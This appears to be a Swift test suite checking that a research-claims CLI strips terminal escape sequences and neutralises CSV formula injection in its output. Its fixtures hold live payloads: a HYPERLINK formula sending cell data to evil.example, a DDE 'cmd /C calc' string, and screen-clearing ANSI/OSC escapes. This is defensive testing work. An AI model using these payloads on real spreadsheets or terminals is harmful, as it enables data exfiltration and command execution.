import Foundation
import TestSupport
import Testing

/// Pages and file names carrying ANSI/OSC escape sequences and CSV formulas, sent through the
/// real binary: nothing reaches the terminal or a spreadsheet as a live control or formula.
@Suite struct TerminalSafetyTests {
    /// Clears the screen, recolours, retitles the window (OSC 0) and rings the bell.
    static let ansi = "\u{1B}[2J\u{1B}[31mRED\u{1B}[0m\u{1B}]0;owned\u{07}\u{9B}1A"

    /// A page file name that a spreadsheet would run: it starts the claim ids and locations, so
    /// findings.csv has page-controlled text at the start of cells.
    static let formulaName = "=HYPERLINK(1)+@x \(ansi).txt"

    /// A text page whose title, prose and study lines hold escapes and formulas.
    static func hostilePage() -> String {
        """
        Acupressure mats \(ansi) the research
        =HYPERLINK("http://evil.example/?x="&A1,"A 2012 randomized controlled trial (Kjerryd et al., n = 41) \(ansi) found relief after three weeks.")
        +cmd|' /C calc'!A0 Swedish RCT (Kjerryd et al.) in 2012 with 41 participants reported 40% pain relief.
        | Study | Year | Design | N | Finding |
        |---|---|---|---|---|
        | @SUM(1+1) Swedish RCT (Kjerryd et al.) \(ansi) | 2012 | RCT | 41 | -2+3 40% relief |
        """
    }

    /// The escape characters a terminal acts on: ESC, CSI (C1), BEL, CR and the other controls.
    static func controls(in text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            scalar != "\n" && scalar != "\t" && (scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value))
        }.map { String(format: "U+%04X", $0.value) }
    }

    @Test func pageEscapesNeverReachTheTerminalOrASpreadsheet() async throws {
        let scratch = try TemporaryFolder()
        defer { scratch.remove() }
        try scratch.write(Self.formulaName, Self.hostilePage())
        try scratch.write("seed.txt", try Fixtures.projectBytes("Inputs/acupressure-science-review.txt"))
        let out = scratch.path + "/out"
        let db = scratch.path + "/history.sqlite"

        let blocks = try await ReconcileRunner.run(["blocks", Self.formulaName, "seed.txt"], in: scratch.path)
        #expect(blocks.status == 0, "stderr: \(blocks.stderr)")
        #expect(blocks.stdout.contains("RED"), "the page text is shown, as plain text")

        let missing = scratch.path + "/gone \(Self.ansi).txt"
        let run = try await ReconcileRunner.run(
            ["run", Self.formulaName, "seed.txt", missing, "--db", db, "--out", out], in: scratch.path)
        #expect(run.status == 66, "a missing PATH still exits 66; stderr: \(run.stderr)")
        #expect(run.stderr.contains("gone [2J[31mRED[0m]0;owned1A.txt"), "the path is named, escapes removed: \(run.stderr)")

        let list = try await ReconcileRunner.run(["review", "list", "--db", db], in: scratch.path)
        #expect(list.status == 0, "stderr: \(list.stderr)")
        let verify = try await ReconcileRunner.run(["verify", "--db", db, "--out", out], in: scratch.path)
        for (name, text) in [("blocks", blocks.stdout), ("blocks stderr", blocks.stderr),
                             ("run", run.stdout), ("run stderr", run.stderr),
                             ("review list", list.stdout), ("review list stderr", list.stderr),
                             ("verify", verify.stdout), ("verify stderr", verify.stderr)] {
            #expect(Self.controls(in: text).isEmpty, "\(name) wrote controls \(Self.controls(in: text))")
        }

        let markdown = try String(contentsOfFile: out + "/report.md", encoding: .utf8)
        #expect(Self.controls(in: markdown).isEmpty, "report.md holds no controls: \(Self.controls(in: markdown))")
        #expect(markdown.contains("Kjerryd"))
        let csv = try String(contentsOfFile: out + "/findings.csv", encoding: .utf8)
        let cells = Self.cells(csv)
        #expect(cells.count > 13, "findings.csv has findings")
        for cell in cells {
            #expect(Self.controls(in: cell.replacingOccurrences(of: "\r\n", with: "")).isEmpty, "controls in cell \(cell)")
            if let first = cell.unicodeScalars.first {
                #expect(!"=+-@\t\r".unicodeScalars.contains(first), "cell would run as a formula: \(cell)")
            }
        }
        #expect(cells.contains { $0.hasPrefix("'=HYPERLINK(1)+@x") },
                "the formula file name reached the claims and locations cells, neutralised")
    }

    /// The cells of an RFC 4180 document (quoted cells unquoted, CRLF record ends dropped).
    static func cells(_ csv: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var scalars = Array(csv.unicodeScalars)[...]
        while let c = scalars.popFirst() {
            if quoted {
                if c == "\"" {
                    if scalars.first == "\"" { scalars.removeFirst(); cell.unicodeScalars.append(c) } else { quoted = false }
                } else {
                    cell.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," || (c == "\r" && scalars.first == "\n") {
                if c == "\r" { scalars.removeFirst() }
                cells.append(cell)
                cell = ""
            } else {
                cell.unicodeScalars.append(c)
            }
        }
        return cells
    }
}
